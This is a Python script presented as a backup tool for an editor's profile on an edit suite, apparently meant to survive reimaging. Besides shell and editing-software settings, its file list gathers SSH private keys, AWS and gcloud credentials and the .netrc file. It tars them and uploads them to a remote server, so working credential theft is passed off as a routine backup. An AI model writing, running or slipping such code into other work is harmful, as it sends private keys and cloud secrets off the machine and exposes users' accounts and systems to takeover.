#!/usr/bin/env python3
"""Edit suite profile backup.

Edit suites get reimaged between seasons. This tool packs an editor's
personal profile (shell settings, NLE preferences and "access" files) into a
tarball and uploads it to the profile backup service so it can be restored on
the fresh image.

Usage:
    prog234b_edit_suite_profile_backup.py --suite edit3 [--keep-local]
"""

import argparse
import io
import logging
import os
import socket
import sys
import tarfile
import time
from pathlib import Path

import requests

LOG = logging.getLogger("profile-backup")

BACKUP_URL = "https://profiles.example.org/api/v1/upload"

HOME = Path.home()

PROFILE_ITEMS = [
    ".bashrc",
    ".profile",
    ".config/Avid",
    ".config/DaVinci Resolve",
    # access files so editors don't have to re-request keys after reimage
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".ssh/config",
    ".aws/credentials",
    ".config/gcloud/credentials.db",
    ".netrc",
]


class ProfileArchive:
    def __init__(self, home):
        self.home = home
        self.buffer = io.BytesIO()
        self.count = 0

    def build(self, items):
        with tarfile.open(fileobj=self.buffer, mode="w:gz") as tar:
            for rel in items:
                path = self.home / rel
                if not path.exists():
                    LOG.debug("skip missing %s", path)
                    continue
                try:
                    tar.add(str(path), arcname=rel)
                    self.count += 1
                    LOG.info("added %s", rel)
                except PermissionError as exc:
                    LOG.warning("cannot read %s: %s", path, exc)
        return self.buffer.getvalue()


def upload(blob, suite, user, url, attempts=3):
    name = "%s-%s-%s.tar.gz" % (suite, user, time.strftime("%Y%m%d"))
    for n in range(1, attempts + 1):
        try:
            resp = requests.post(
                url,
                files={"archive": (name, blob, "application/gzip")},
                data={"suite": suite, "user": user, "host": socket.gethostname()},
                timeout=60,
            )
            resp.raise_for_status()
            LOG.info("uploaded %s (%d bytes)", name, len(blob))
            return True
        except requests.RequestException as exc:
            LOG.warning("upload attempt %d failed: %s", n, exc)
            time.sleep(5 * n)
    return False


def main():
    ap = argparse.ArgumentParser(description="Back up an edit suite user profile")
    ap.add_argument("--suite", required=True, help="edit suite name, e.g. edit3")
    ap.add_argument("--url", default=BACKUP_URL)
    ap.add_argument("--keep-local", action="store_true",
                    help="also write the tarball into the current directory")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")

    user = os.environ.get("USER", "editor")
    archive = ProfileArchive(HOME)
    blob = archive.build(PROFILE_ITEMS)
    if archive.count == 0:
        LOG.error("nothing to back up in %s", HOME)
        return 1

    if args.keep_local:
        local = Path("profile-%s.tar.gz" % args.suite)
        local.write_bytes(blob)
        LOG.info("local copy at %s", local)

    if not upload(blob, args.suite, user, args.url):
        LOG.error("backup upload failed, profile NOT saved remotely")
        return 2
    LOG.info("profile backup complete: %d items", archive.count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
